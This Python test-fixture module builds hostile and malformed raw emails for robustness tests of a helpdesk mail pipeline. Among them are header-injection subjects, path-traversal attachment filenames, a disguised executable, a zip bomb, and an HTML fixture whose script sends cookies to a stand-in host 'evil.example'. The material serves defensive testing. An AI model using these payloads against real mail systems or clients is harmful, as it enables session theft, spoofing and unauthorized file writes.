"""Hostile and malformed mail, for robustness tests of the mail pipeline.

Why: a helpdesk is an open door. Whatever arrives at the support address is
stored, parsed, threaded and maybe answered, so every way a mail can be broken
(by a buggy client, a spammer, or someone probing the parser) must end in a
stored message or a clean refusal, never in a crashed daemon, a lost spool
entry, a file written outside the blob store or an injected header.

Each entry is one kind of damage, named for it, and documented by the
docstring of the function that builds it. ``hostile_messages()`` builds them
all; ``BUILDERS[name]()`` builds one (the 20 MB one is worth building alone).
The bytes are raw RFC 5322 input as an SMTP client might send them: mostly
CRLF, except where the line endings are the damage.
"""

from __future__ import annotations

import base64
import io
import random
import zipfile
from collections.abc import Callable, Iterable

BUILDERS: dict[str, Callable[[], bytes]] = {}

BIG_ATTACHMENT_BYTES = 20 * 1024 * 1024
CRLF = "\r\n"


def _hostile(build: Callable[[], bytes]) -> Callable[[], bytes]:
    BUILDERS[build.__name__] = build
    return build


def hostile_messages() -> list[tuple[str, bytes]]:
    """Every hostile mail as (name, raw bytes), in a stable order."""
    return [(name, build()) for name, build in BUILDERS.items()]


def _b(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode("utf-8")


def _mail(
    name: str,
    headers: Iterable[str | bytes] = (),
    body: str | bytes = "Hello.\r\n",
    omit: Iterable[str] = (),
) -> bytes:
    """An otherwise ordinary mail: base headers (minus ``omit``), ``headers``, body."""
    base = {
        "From": "Mallory <mallory@example.net>",
        "To": "support@example.com",
        "Subject": f"hostile: {name}",
        "Date": "Mon, 04 Mar 2024 10:00:00 +0000",
        "Message-ID": f"<{name}@hostile.example.net>",
        "MIME-Version": "1.0",
    }
    lines = [_b(f"{k}: {v}") for k, v in base.items() if k not in set(omit)]
    lines += [_b(h) for h in headers]
    return b"\r\n".join(lines) + b"\r\n\r\n" + _b(body)


def _text(body: str | bytes = "Hello.\r\n", ctype: str = "text/plain; charset=utf-8") -> bytes:
    """One MIME part: Content-Type, blank line, body."""
    return _b(f"Content-Type: {ctype}\r\n\r\n") + _b(body)


def _b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii").replace("\n", CRLF)


def _attachment(
    name: str,
    disposition: str,
    data: bytes = b"%PDF-1.4\n%%EOF\n",
    ctype: str = "application/octet-stream",
    encoded: str | None = None,
) -> bytes:
    """A multipart/mixed mail: a text part and one base64 attachment."""
    return _mail(
        name,
        ['Content-Type: multipart/mixed; boundary="att"'],
        b"--att\r\n"
        + _text()
        + b"\r\n--att\r\n"
        + _b(f"Content-Type: {ctype}\r\nContent-Transfer-Encoding: base64\r\n")
        + _b(f"Content-Disposition: {disposition}\r\n\r\n")
        + _b(_b64(data) if encoded is None else encoded)
        + b"--att--\r\n",
    )


# --- MIME structure ------------------------------------------------------------------


@_hostile
def mime_missing_closing_boundary() -> bytes:
    """Two parts, and the closing ``--b--`` delimiter never comes."""
    return _mail(
        "mime_missing_closing_boundary",
        ['Content-Type: multipart/mixed; boundary="b"'],
        b"--b\r\n" + _text("first\r\n") + b"--b\r\n" + _text("second, never closed\r\n"),
    )


@_hostile
def mime_boundary_never_used() -> bytes:
    """A multipart whose declared boundary appears nowhere in the body."""
    return _mail(
        "mime_boundary_never_used",
        ['Content-Type: multipart/mixed; boundary="never-used"'],
        "Just text, no delimiter line at all.\r\n",
    )


@_hostile
def mime_boundary_in_header_only() -> bytes:
    """Delimiter lines sit in the header block; the body holds none."""
    return _mail(
        "mime_boundary_in_header_only",
        ['Content-Type: multipart/mixed; boundary="hdr"', "--hdr", "Content-Type: text/html", "--hdr--"],
        "<p>where do the parts start?</p>\r\n",
    )


@_hostile
def mime_boundary_mismatch() -> bytes:
    """The body is cut by a boundary other than the declared one."""
    return _mail(
        "mime_boundary_mismatch",
        ['Content-Type: multipart/mixed; boundary="declared"'],
        b"--other\r\n" + _text("one\r\n") + b"--other\r\n" + _text("two\r\n") + b"--other--\r\n",
    )


@_hostile
def mime_boundary_param_missing() -> bytes:
    """multipart/mixed with no boundary parameter."""
    return _mail(
        "mime_boundary_param_missing", ["Content-Type: multipart/mixed"], b"--\r\n" + _text("part?\r\n") + b"----\r\n"
    )


@_hostile
def mime_boundary_empty() -> bytes:
    """boundary="": every line starting with ``--`` is a delimiter."""
    return _mail(
        "mime_boundary_empty",
        ['Content-Type: multipart/mixed; boundary=""'],
        b"--\r\n" + _text("-- a signature separator\r\n") + b"----\r\n",
    )


@_hostile
def mime_boundary_prefix_collision() -> bytes:
    """A part contains lines starting with the boundary plus more text."""
    return _mail(
        "mime_boundary_prefix_collision",
        ['Content-Type: multipart/mixed; boundary="ab"'],
        b"--ab\r\n" + _text("--abc is not a delimiter\r\n--ab-- neither\r\n") + b"--ab--\r\n",
    )


@_hostile
def mime_part_without_headers() -> bytes:
    """A part with no header block and no blank line before its content."""
    return _mail(
        "mime_part_without_headers",
        ['Content-Type: multipart/mixed; boundary="b"'],
        "--b\r\nthis line is content, not a header\r\nand: this looks like one\r\n--b--\r\n",
    )


@_hostile
def mime_multipart_without_parts() -> bytes:
    """A multipart whose body is the closing delimiter alone."""
    return _mail("mime_multipart_without_parts", ['Content-Type: multipart/alternative; boundary="b"'], "--b--\r\n")


@_hostile
def nested_multipart_200_deep() -> bytes:
    """200 multiparts each holding the next: recursion depth."""
    body = _text("the bottom\r\n")
    for depth in reversed(range(1, 200)):
        body = (
            _b(f'Content-Type: multipart/mixed; boundary="n{depth}"\r\n\r\n--n{depth}\r\n')
            + body
            + _b(f"\r\n--n{depth}--\r\n")
        )
    return _mail(
        "nested_multipart_200_deep",
        ['Content-Type: multipart/mixed; boundary="n0"'],
        b"--n0\r\n" + body + b"\r\n--n0--\r\n",
    )


@_hostile
def flat_multipart_2000_parts() -> bytes:
    """2,000 sibling parts: per-part cost and row counts."""
    parts = b"".join(b"--f\r\n" + _text(f"part {i}\r\n") for i in range(2000))
    return _mail("flat_multipart_2000_parts", ['Content-Type: multipart/mixed; boundary="f"'], parts + b"--f--\r\n")


@_hostile
def rfc822_attachment_50_deep() -> bytes:
    """A forwarded mail, forwarding a mail, ... 50 levels of message/rfc822."""
    inner = _mail("rfc822_level_50", body="the innermost mail\r\n")
    for level in reversed(range(50)):
        name = f"rfc822_level_{level}" if level else "rfc822_attachment_50_deep"
        inner = _mail(
            name,
            [f'Content-Type: multipart/mixed; boundary="m{level}"'],
            _b(f"--m{level}\r\n")
            + _text(f"forwarding level {level}\r\n")
            + _b(f"\r\n--m{level}\r\nContent-Type: message/rfc822\r\n\r\n")
            + inner
            + _b(f"\r\n--m{level}--\r\n"),
        )
    return inner


@_hostile
def rfc822_attachment_truncated() -> bytes:
    """A message/rfc822 part cut in the middle of its header block."""
    return _mail(
        "rfc822_attachment_truncated",
        ['Content-Type: multipart/mixed; boundary="t"'],
        b"--t\r\nContent-Type: message/rfc822\r\n\r\nFrom: someone@exa\r\nSubj\r\n--t--\r\n",
    )


# --- transfer encodings --------------------------------------------------------------


@_hostile
def base64_invalid_characters() -> bytes:
    """Base64 with characters outside the alphabet, 8-bit bytes included."""
    return _mail(
        "base64_invalid_characters",
        ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64"],
        b"SGVs*bG8g!d29y~bGQ#\r\n\x80\xff$%^&\r\nd29y bGQ\r\n",
    )


@_hostile
def base64_wrong_padding() -> bytes:
    """Padding in the middle, too much padding, padding alone on a line."""
    return _mail(
        "base64_wrong_padding",
        ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64"],
        "SGVsbG8===\r\n=d29ybGQ\r\n==\r\nISE=ISE=\r\n",
    )


@_hostile
def base64_truncated() -> bytes:
    """A PDF attachment whose base64 stops mid-quantum (length 1 mod 4)."""
    data = _b64(b"%PDF-1.4\n" + bytes(range(256)) * 4).replace(CRLF, "")
    return _attachment(
        "base64_truncated",
        'attachment; filename="cut.pdf"',
        ctype="application/pdf",
        encoded=data[: len(data) // 4 * 4 - 3] + CRLF,
    )


@_hostile
def base64_whitespace_only() -> bytes:
    """A base64 attachment whose payload is blanks and tabs."""
    return _mail(
        "base64_whitespace_only",
        ['Content-Type: multipart/mixed; boundary="w"'],
        b"--w\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
        b'Content-Disposition: attachment; filename="empty.pdf"\r\n\r\n'
        b"   \r\n\t\t\r\n \r\n--w--\r\n",
    )


@_hostile
def quoted_printable_garbage() -> bytes:
    """Bad escapes, a lone ``=`` at the end, lowercase hex, encoded NUL and CR LF."""
    return _mail(
        "quoted_printable_garbage",
        ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: quoted-printable"],
        "=ZZ=4 =G1 caf=e9 =\r\nsoft break =   \r\n=0D=0A=00 =C3=\r\n=\r\n=",
    )


@_hostile
def transfer_encoding_unknown() -> bytes:
    """Content-Transfer-Encoding: a name no decoder knows."""
    return _mail(
        "transfer_encoding_unknown",
        ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base65"],
        "SGVsbG8gd29ybGQ=\r\n",
    )


# --- charsets ------------------------------------------------------------------------


@_hostile
def charset_unknown() -> bytes:
    """charset="x-unknown-42", with 8-bit text."""
    return _mail(
        "charset_unknown",
        ['Content-Type: text/plain; charset="x-unknown-42"'],
        "Grüße, привет\r\n".encode() + b"\xfe\xff\r\n",
    )


@_hostile
def charset_lie_utf8_is_latin1() -> bytes:
    """Declares UTF-8, is ISO-8859-1: invalid UTF-8 on every accent."""
    return _mail(
        "charset_lie_utf8_is_latin1",
        ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"],
        "Café, déjà vu, voilà: ça coûte 15 €uro.\r\n".replace("€", "E").encode("latin-1"),
    )


@_hostile
def charset_lie_ascii_has_8bit() -> bytes:
    """Declares us-ascii and 7bit, carries UTF-8."""
    return _mail(
        "charset_lie_ascii_has_8bit",
        ["Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: 7bit"],
        "Здравствуйте, naïve façade ✓\r\n".encode(),
    )


@_hostile
def charset_utf16_without_bom() -> bytes:
    """UTF-16 little-endian with no byte order mark (and so NUL bytes everywhere)."""
    return _mail(
        "charset_utf16_without_bom",
        ["Content-Type: text/plain; charset=utf-16"],
        "Hello Привет\r\n".encode("utf-16-le"),
    )


@_hostile
def charset_utf8_invalid_sequences() -> bytes:
    """Declared UTF-8 with overlong forms, encoded surrogates, stray and cut sequences."""
    return _mail(
        "charset_utf8_invalid_sequences",
        ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"],
        b"overlong slash \xc0\xaf, surrogate \xed\xa0\x80, stray \x80\xbf, cut \xe2\x82\r\n"
        b"\xf4\x90\x80\x80 beyond U+10FFFF, \xff\xfe never valid\r\n",
    )


@_hostile
def charset_utf7_script() -> bytes:
    """HTML declared UTF-7: ``+ADw-script+AD4-`` decodes to a script tag."""
    return _mail(
        "charset_utf7_script",
        ["Content-Type: text/html; charset=utf-7"],
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n",
    )


@_hostile
def charset_name_is_a_path() -> bytes:
    """A charset parameter that is a relative path: never let a codec name reach the disk."""
    return _mail("charset_name_is_a_path", ['Content-Type: text/plain; charset="../../../etc/passwd"'], "text\r\n")


# --- RFC 2047 encoded words ----------------------------------------------------------


@_hostile
def rfc2047_unterminated() -> bytes:
    """Subject: an encoded word that never ends with ``?=``."""
    return _mail("rfc2047_unterminated", ["Subject: =?utf-8?B?SGVsbG8gd29ybGQ"], omit=["Subject"])


@_hostile
def rfc2047_bad_base64() -> bytes:
    """Subject: a B encoded word whose payload is not base64."""
    return _mail("rfc2047_bad_base64", ["Subject: =?utf-8?B?***not-base64!!?= and =?utf-8?B?QQ?="], omit=["Subject"])


@_hostile
def rfc2047_unknown_charset() -> bytes:
    """Subject: an encoded word in charset x-unknown-42."""
    return _mail("rfc2047_unknown_charset", ["Subject: =?x-unknown-42?Q?caf=E9?= ok"], omit=["Subject"])


@_hostile
def rfc2047_decodes_to_header_injection() -> bytes:
    """Subject: an encoded word that decodes to CR LF and a Bcc header."""
    return _mail(
        "rfc2047_decodes_to_header_injection",
        ["Subject: =?utf-8?Q?hi=0D=0ABcc:_victim@example.net=0D=0A?="],
        omit=["Subject"],
    )


@_hostile
def rfc2047_address_spoof() -> bytes:
    """A From display name that decodes to another address (``support@example.com``)."""
    name = base64.b64encode(b"support@example.com <support@example.com>").decode()
    return _mail("rfc2047_address_spoof", [f"From: =?utf-8?B?{name}?= <mallory@example.net>"], omit=["From"])


# --- bytes where they do not belong --------------------------------------------------


@_hostile
def nul_in_headers() -> bytes:
    """NUL bytes inside a Subject and a custom header."""
    return _mail("nul_in_headers", [b"Subject: hello\x00world", b"X-Null: \x00\x00\x00"], omit=["Subject"])


@_hostile
def nul_in_body() -> bytes:
    """NUL bytes in a text/plain body."""
    return _mail(
        "nul_in_body", ["Content-Type: text/plain; charset=utf-8"], b"before\x00after\r\n\x00\x00\x00\r\nend\r\n"
    )


@_hostile
def raw_8bit_in_header_values() -> bytes:
    """Unencoded UTF-8 and Latin-1 in header values (no RFC 2047)."""
    return _mail(
        "raw_8bit_in_header_values",
        [
            "From: Jürgen Groß <juergen@example.net>".encode(),
            "Subject: Проблема с заказом".encode(),
            "X-Latin: café".encode("latin-1"),
        ],
        omit=["From", "Subject"],
    )


@_hostile
def header_name_8bit() -> bytes:
    """8-bit bytes in header names."""
    return _mail("header_name_8bit", ["X-Ünïcödé: value".encode(), b"Subj\xe9ct: latin-1 name"])


@_hostile
def idn_homograph_sender() -> bytes:
    """A sender domain with a Cyrillic ``а`` that looks like ``example.com``."""
    return _mail("idn_homograph_sender", ["From: Support <support@exаmple.com>".encode()], omit=["From"])


@_hostile
def utf8_bom_before_headers() -> bytes:
    """A UTF-8 byte order mark before the first header."""
    return b"\xef\xbb\xbf" + _mail("utf8_bom_before_headers")


# --- shape of the header block -------------------------------------------------------


@_hostile
def empty_body() -> bytes:
    """Headers, the blank line, then zero bytes of body."""
    return _mail("empty_body", body=b"")


@_hostile
def no_headers_at_all() -> bytes:
    """A body with no header block at all."""
    return b"Just some text that arrived\r\nwithout any header.\r\n"


@_hostile
def headers_only_no_blank_line() -> bytes:
    """Headers, and the message ends before any blank line."""
    return _mail("headers_only_no_blank_line").split(b"\r\n\r\n")[0] + b"\r\n"


@_hostile
def ten_thousand_headers() -> bytes:
    """10,000 header lines."""
    return _mail("ten_thousand_headers", (f"X-Filler-{i}: value {i}" for i in range(10_000)))


@_hostile
def header_line_100kb() -> bytes:
    """A Subject that is one unfolded 100 KB line."""
    return _mail("header_line_100kb", ["Subject: " + "A" * 100_000], omit=["Subject"])


@_hostile
def header_folded_5000_lines() -> bytes:
    """A References header folded over 5,000 continuation lines."""
    refs = CRLF.join(f" <ref{i}@hostile.example.net>" for i in range(5000))
    return _mail("header_folded_5000_lines", ["References:" + refs])


@_hostile
def header_without_colon() -> bytes:
    """A line in the header block with no colon."""
    return _mail("header_without_colon", ["This line is not a header", "X-After: still here"])


@_hostile
def header_name_with_space_before_colon() -> bytes:
    """``Subject : x`` and ``From :``: obsolete syntax, a second From in disguise."""
    return _mail(
        "header_name_with_space_before_colon", ["Subject : spaced", "From : Boss <boss@example.com>"], omit=["Subject"]
    )


@_hostile
def continuation_line_first() -> bytes:
    """The message starts with a folded continuation line, before any header."""
    return b" continuation of nothing\r\n" + _mail("continuation_line_first")


@_hostile
def mbox_from_line_first() -> bytes:
    """An mbox ``From `` separator line leaked in front of the headers."""
    return b"From mallory@example.net Mon Mar  4 10:00:00 2024\r\n" + _mail("mbox_from_line_first")


@_hostile
def content_type_garbage_parameters() -> bytes:
    """Unterminated quotes, empty parameters, ``=`` runs, duplicate charsets."""
    return _mail(
        "content_type_garbage_parameters",
        ['Content-Type: text/plain; charset="utf-8; ;;; name=== ; charset=latin1; ="'],
    )


# --- header injection and duplicates -------------------------------------------------


@_hostile
def subject_folded_header_injection() -> bytes:
    """A Subject whose continuation lines look like Bcc/Cc headers, one blank-looking."""
    return _mail(
        "subject_folded_header_injection",
        ["Subject: hi\r\n Bcc: victim@example.net\r\n\t\r\n Cc: victim2@example.net"],
        omit=["Subject"],
    )


@_hostile
def subject_bare_cr_injection() -> bytes:
    """A bare CR in the Subject followed by a Bcc header."""
    return _mail("subject_bare_cr_injection", [b"Subject: hi\rBcc: victim@example.net"], omit=["Subject"])


@_hostile
def duplicate_from() -> bytes:
    """Two different From headers."""
    return _mail("duplicate_from", ["From: Boss <boss@example.com>"])


@_hostile
def duplicate_to() -> bytes:
    """Two different To headers."""
    return _mail("duplicate_to", ["To: other-support@example.com"])


@_hostile
def duplicate_message_id() -> bytes:
    """Two different Message-ID headers."""
    return _mail("duplicate_message_id", ["Message-ID: <second-id@hostile.example.net>"])


@_hostile
def no_from_header() -> bytes:
    """No From header at all."""
    return _mail("no_from_header", omit=["From"])


@_hostile
def from_1000_addresses() -> bytes:
    """A From header with 1,000 addresses."""
    addresses = ",\r\n ".join(f"user{i} <user{i}@example.net>" for i in range(1000))
    return _mail("from_1000_addresses", ["From: " + addresses], omit=["From"])


@_hostile
def address_without_at() -> bytes:
    """From and Reply-To with no ``@``."""
    return _mail("address_without_at", ["From: Mallory <mallory>", "Reply-To: nobody"], omit=["From"])


@_hostile
def date_invalid() -> bytes:
    """A Date no parser can read."""
    return _mail("date_invalid", ["Date: Feb 30 2024 25:61:99 +9999 yesterday"], omit=["Date"])


@_hostile
def date_year_9999() -> bytes:
    """A Date in the year 9999, at the last second."""
    return _mail("date_year_9999", ["Date: Fri, 31 Dec 9999 23:59:59 -1200"], omit=["Date"])


@_hostile
def message_id_empty() -> bytes:
    """Message-ID: <>."""
    return _mail("message_id_empty", ["Message-ID: <>"], omit=["Message-ID"])


@_hostile
def message_id_2000_chars() -> bytes:
    """A Message-ID 2,000 characters long."""
    return _mail(
        "message_id_2000_chars",
        ["Message-ID: <" + "x" * (2000 - len("<@hostile.example.net>")) + "@hostile.example.net>"],
        omit=["Message-ID"],
    )


# --- lines ---------------------------------------------------------------------------


@_hostile
def mixed_line_endings() -> bytes:
    """Bare LF and bare CR line endings mixed with CRLF, in headers and body."""
    return (
        b"From: Mallory <mallory@example.net>\nTo: support@example.com\r"
        b"Subject: hostile: mixed_line_endings\r\nDate: Mon, 04 Mar 2024 10:00:00 +0000\n"
        b"Message-ID: <mixed_line_endings@hostile.example.net>\r\n\n"
        b"line one\rline two\nline three\r\n\rline five\n"
    )


@_hostile
def body_lines_over_10000_chars() -> bytes:
    """Body lines of 20,000 characters, far over the SMTP limit of 998."""
    return _mail(
        "body_lines_over_10000_chars", ["Content-Type: text/plain; charset=utf-8"], ("word " * 4000 + "\r\n") * 3
    )


# --- attachments and filenames -------------------------------------------------------


@_hostile
def filename_unix_traversal() -> bytes:
    """filename="../../etc/passwd"."""
    return _attachment("filename_unix_traversal", 'attachment; filename="../../etc/passwd"')


@_hostile
def filename_windows_traversal() -> bytes:
    r"""filename ``..\..\windows\system32\evil.dll`` (escaped in the quoted string)."""
    return _attachment(
        "filename_windows_traversal", 'attachment; filename="..\\\\..\\\\windows\\\\system32\\\\evil.dll"'
    )


@_hostile
def filename_absolute_path() -> bytes:
    """filename="/etc/shadow"."""
    return _attachment("filename_absolute_path", 'attachment; filename="/etc/shadow"')


@_hostile
def filename_control_characters() -> bytes:
    """An RFC 2231 filename decoding to NUL, CR and LF, and a raw NUL in the name."""
    return _attachment(
        "filename_control_characters",
        "attachment; filename*=utf-8''evil%00name%0D%0ABcc%3A%20x.txt",
        ctype='application/octet-stream; name="a\x00b.txt"',
    )


@_hostile
def filename_5000_chars() -> bytes:
    """A filename 5,000 characters long."""
    return _attachment("filename_5000_chars", f'attachment; filename="{"A" * 4996}.pdf"')


@_hostile
def filename_rfc2047_traversal() -> bytes:
    """A filename that is an encoded word decoding to ``../../etc/passwd``."""
    return _attachment("filename_rfc2047_traversal", 'attachment; filename="=?utf-8?B?Li4vLi4vZXRjL3Bhc3N3ZA==?="')


@_hostile
def filename_rtl_override() -> bytes:
    """U+202E in a filename: ``invoice\u202efdp.exe`` displays as ``invoiceexe.pdf``."""
    return _attachment("filename_rtl_override", "attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe")


@_hostile
def rfc2231_unknown_charset() -> bytes:
    """An RFC 2231 filename in charset x-bogus-99."""
    return _attachment("rfc2231_unknown_charset", "attachment; filename*=x-bogus-99'en'%E9t%E9.pdf")


@_hostile
def rfc2231_invalid_bytes() -> bytes:
    """An RFC 2231 filename declared UTF-8 whose bytes are not UTF-8."""
    return _attachment("rfc2231_invalid_bytes", "attachment; filename*=utf-8''%FF%FE%C0%AF.pdf")


@_hostile
def rfc2231_broken_continuations() -> bytes:
    """Continuations out of order, missing, repeated, and a bad percent escape."""
    return _attachment(
        "rfc2231_broken_continuations",
        'attachment; filename*2="c.pdf"; filename*0="a"; filename*1*=utf-8\'\'%ZZ; filename*0="again"',
    )


@_hostile
def content_type_lies_png_is_executable() -> bytes:
    """Declared image/png named photo.png; the bytes are a Windows PE (``MZ``) executable."""
    pe = b"MZ\x90\x00\x03" + b"\x00" * 55 + (64).to_bytes(4, "little") + b"PE\x00\x00\x4c\x01" + b"\x00" * 200
    return _attachment(
        "content_type_lies_png_is_executable",
        'attachment; filename="photo.png"',
        pe,
        ctype='image/png; name="photo.png"',
    )


@_hostile
def attachment_20mb() -> bytes:
    """A 20 MiB attachment (about 27 MB of base64)."""
    block = random.Random(20).randbytes(57 * 1024)  # 57 bytes = one 76-char base64 line
    data = block * (BIG_ATTACHMENT_BYTES // len(block) + 1)
    encoded = base64.encodebytes(data).replace(b"\n", b"\r\n")
    del data
    head = _mail(
        "attachment_20mb",
        ['Content-Type: multipart/mixed; boundary="big"'],
        b"--big\r\n" + _text() + b"\r\n--big\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Transfer-Encoding: base64\r\n"
        b'Content-Disposition: attachment; filename="big.bin"\r\n\r\n',
    )
    return b"".join((head, encoded, b"--big--\r\n"))


@_hostile
def zip_bomb_attachment() -> bytes:
    """A 10 KB zip that inflates to 10 MiB of zeros."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("zeros.txt", date_time=(2024, 3, 4, 10, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, bytes(10 * 1024 * 1024))
    return _attachment(
        "zip_bomb_attachment", 'attachment; filename="report.zip"', buf.getvalue(), ctype="application/zip"
    )


# --- active content ------------------------------------------------------------------


@_hostile
def html_active_content() -> bytes:
    """Script, event handlers, javascript: links, CSS expressions, iframes, meta refresh."""
    page = (
        '<html><head><meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
        "<style>body{background:url(javascript:alert(2));width:expression(alert(3))}</style>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script></head>"
        '<body onload="alert(4)"><img src=x onerror="alert(5)">'
        '<a href="javascript:alert(6)">click</a><a href="JaVaScRiPt&#58;alert(7)">x</a>'
        '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg=="></iframe>'
        '<svg onload=alert(9)></svg><object data="evil.swf"></object>'
        '<div style="x:expression(alert(10))">text</div><form action="https://evil.example">'
        "<input name=password></form></body></html>\r\n"
    )
    return _mail("html_active_content", ["Content-Type: text/html; charset=utf-8"], page)
